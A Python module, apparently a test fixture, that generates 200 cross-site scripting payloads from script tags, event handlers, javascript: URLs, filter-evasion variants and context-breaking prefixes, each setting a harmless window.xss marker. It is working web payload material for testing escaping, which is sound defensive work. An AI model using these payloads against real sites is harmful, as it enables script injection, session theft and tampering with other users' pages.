"""200 payloads that run a script where a page inserts them without escaping. Each sets `window.xss`."""

from itertools import product

RUN = "window.xss=1"

_ELEMENTS = (
    "<script>{run}</script>",
    "<ScRiPt >{run}</sCrIpT\t>",
    "<script/x>{run}</script/x>",
    "<scr\0ipt>{run}</script>",
    "<img src=x onerror={run}>",
    "<img/src=x/onerror={run}>",
    "<img src=x onerror\x0b={run}>",
    "<svg onload={run}>",
    "<svg/onload={run}//",
    "<svg><script>{run}</script>",
    "<svg><animate onbegin={run} attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:{run}><rect width=99 height=99 /></a>",
    "<body onload={run}>",
    "<input autofocus onfocus={run}>",
    "<details open ontoggle={run}>",
    "<video src=x onerror={run}>",
    "<audio src onloadstart={run}>",
    "<iframe srcdoc='<script>parent.{run}</script>'>",
    "<iframe src=javascript:parent.{run}>",
    "<object data=javascript:{run}>",
    "<embed src=javascript:{run}>",
    "<form action=javascript:{run}><button autofocus onfocus={run}>",
    "<math><mi href=javascript:{run}>x",
    "<meta http-equiv=refresh content='0;url=javascript:{run}'>",
    "<base href=javascript:/a/-{run}//>",
    "<link rel=stylesheet href=x onerror={run}>",
    "<style onload={run}></style>",
    "<marquee onstart={run}>x</marquee>",
    "<p style=animation-name:x onanimationstart={run}>x",
    "<template><script>{run}</script></template><img src=x onerror={run}>",
    "<noscript><p title='</noscript><img src=x onerror={run}>'>",
    "<!--><img src=x onerror={run}>-->",
    "<![CDATA[<img src=x onerror={run}>]]>",
    "<xmp><p title='</xmp><img src=x onerror={run}>'>",
    "\u2028<img src=x onerror={run}>\u2029",
    "＜script＞{run}＜/script＞",
)
# The places that a payload must leave first.
_EXITS = ("", '">', "'>", "</title>", "</style></script>")
_WHOLE = (
    '" autofocus onfocus={run} x="',
    "' autofocus onfocus={run} x='",
    '" onmouseover={run} style=position:fixed;inset:0 "',
    "javascript:{run}",
    " javascript:{run}",
    "java\tscript:{run}",
    "\x01javascript:{run}",
    "JaVaScRiPt:{run}",
    "data:text/html,<script>parent.{run}</script>",
    "vbscript:{run}",
    "//javascript:{run}",
    "/javascript:{run}",
    "{{{{ ''.__class__ }}}}<img src=x onerror={run}>",
    "{{% raw %}}<img src=x onerror={run}>{{% endraw %}}",
    "${{{run}}}",
    "`-{run}-`",
    "';{run};//",
    '";{run};//',
    "\\';{run};//",
    "</script><script>{run}</script>",
)

PAYLOADS = tuple(exit + element.format(run=RUN) for exit, element in product(_EXITS, _ELEMENTS)) + tuple(
    each.format(run=RUN) for each in _WHOLE
)
